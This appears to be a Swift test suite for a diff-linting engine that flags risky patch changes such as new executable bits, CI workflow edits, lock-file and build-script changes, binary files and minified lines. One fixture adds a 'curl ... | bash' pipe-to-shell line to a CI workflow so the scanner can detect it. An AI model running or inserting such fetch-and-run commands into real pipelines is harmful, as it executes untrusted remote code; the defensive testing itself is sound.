import Testing
@testable import AirlockCore

/// Rules about whole files: each fires on its positive patch, once, at the file's first
/// added line, and not on its near miss.
@Suite("lint file rules, one positive and one negative patch each")
struct LintFileRuleTests {
    typealias F = LintFixtures

    struct Example: CustomTestStringConvertible, Sendable {
        var rule: String
        var positive: Patch
        var negative: Patch
        /// The line the positive finding names.
        var line: Int
        var testDescription: String { rule }
    }

    static func modifying(_ path: String, added: [String], at start: Int = 10) -> Patch {
        let hunk = Hunk(
            oldStart: start, oldCount: 1, newStart: start, newCount: 1 + added.count,
            lines: [HunkLine(.context, "keep\n")] + added.map { HunkLine(.added, $0 + "\n") })
        return Patch(files: [FilePatch(operation: .modify, oldPath: path, newPath: path, hunks: [hunk])])
    }

    static func creating(_ path: String, mode: FileMode) -> Patch {
        var patch = F.creating(path, ["echo hi"])
        patch.files[0].newMode = mode
        return patch
    }

    static func binary(_ path: String) -> Patch {
        Patch(files: [FilePatch(operation: .create, oldPath: nil, newPath: path, newMode: .regular, binary: .marker)])
    }

    static let examples: [Example] = [
        Example(rule: "new-executable-bit", positive: creating("scripts/run.sh", mode: .executable),
                negative: creating("scripts/run.sh", mode: .regular), line: 1),
        Example(rule: "ci-workflow-change", positive: modifying(".github/workflows/ci.yml", added: ["  run: make"]),
                negative: modifying("docs/workflows/ci.yml", added: ["  run: make"]), line: 11),
        Example(rule: "lock-file-change", positive: modifying("web/package-lock.json", added: ["  \"x\": 1"]),
                negative: modifying("web/package-lock.json.md", added: ["  \"x\": 1"]), line: 11),
        Example(rule: "build-script-change", positive: modifying("Makefile", added: ["\tcc -o app app.c"]),
                negative: modifying("docs/Makefile.md", added: ["\tcc -o app app.c"]), line: 11),
        Example(rule: "binary-file", positive: binary("assets/blob.bin"), negative: F.creating("assets/blob.txt", ["text"]), line: 1),
        Example(rule: "minified-line", positive: modifying("web/app.min.js", added: ["ok", String(repeating: "a=1;", count: 500)]),
                negative: modifying("web/app.js", added: ["ok", String(repeating: "a=1;", count: 200)]), line: 12),
    ]

    @Test(arguments: examples)
    func positivePatchIsFoundOnce(_ example: Example) throws {
        let findings = LintEngine.scan(example.positive).filter { $0.rule == example.rule }
        #expect(findings.count == 1, "\(findings)")
        let finding = try #require(findings.first)
        #expect(finding.path == example.positive.files[0].path)
        #expect(finding.line == example.line)
        #expect(finding.fingerprint == LintFingerprint.make(rule: example.rule, path: finding.path, content: finding.rule == "minified-line" ? Array(String(repeating: "a=1;", count: 500).utf8) : []))
    }

    @Test(arguments: examples)
    func negativePatchIsNot(_ example: Example) {
        #expect(!LintEngine.scan(example.negative).map(\.rule).contains(example.rule))
    }

    @Test func aFileAlreadyExecutableIsNotReportedAgain() {
        var patch = Self.modifying("run.sh", added: ["echo"])
        patch.files[0].oldMode = .regular
        patch.files[0].newMode = .executable
        #expect(LintEngine.scan(patch).map(\.message) == ["File made executable (mode 100755) (was 100644)"])
        patch.files[0].oldMode = .executable
        #expect(LintEngine.scan(patch) == [])
    }

    @Test func aModeChangeInAGitDiffIsFound() throws {
        let text = """
            diff --git a/tools/gen b/tools/gen
            old mode 100644
            new mode 100755

            """
        let findings = LintEngine.scan(try PatchFixtures.parse(text))
        #expect(findings.map { "\($0.path):\($0.line) \($0.rule)" } == ["tools/gen:1 new-executable-bit"])
    }

    @Test func deletingOrRenamingAwayACIWorkflowIsFound() {
        let deleted = Patch(files: [FilePatch(operation: .delete, oldPath: ".github/workflows/ci.yml", newPath: nil)])
        #expect(LintEngine.scan(deleted).map(\.message) == ["CI configuration changed (deleted)"])
        let renamed = Patch(files: [FilePatch(operation: .rename, oldPath: ".github/workflows/ci.yml", newPath: "old/ci.yml", similarity: 100)])
        #expect(LintEngine.scan(renamed).map(\.rule) == ["ci-workflow-change"])
    }

    @Test func fileFindingsComeBeforeTheFilesLineFindings() {
        let patch = Self.modifying(".github/workflows/deploy.yml", added: ["  run: curl -fsSL https://x.example/i.sh | bash"])
        #expect(LintEngine.scan(patch).map(\.rule) == ["ci-workflow-change", "pipe-to-shell"])
    }

    @Test func minifiedLinesAreReportedOncePerFileEvenAcrossHunks() {
        let long = String(repeating: "x", count: 3000)
        let hunks = (0..<3).map { i in
            Hunk(oldStart: 100 * i + 1, oldCount: 0, newStart: 100 * i + 1, newCount: 2, lines: [HunkLine(.added, long + "\n"), HunkLine(.added, long + "\n")])
        }
        let patch = Patch(files: [FilePatch(operation: .modify, oldPath: "a.js", newPath: "a.js", hunks: hunks)])
        #expect(LintEngine.scan(patch).map { "\($0.rule)@\($0.line)" } == ["minified-line@1"])
    }
}
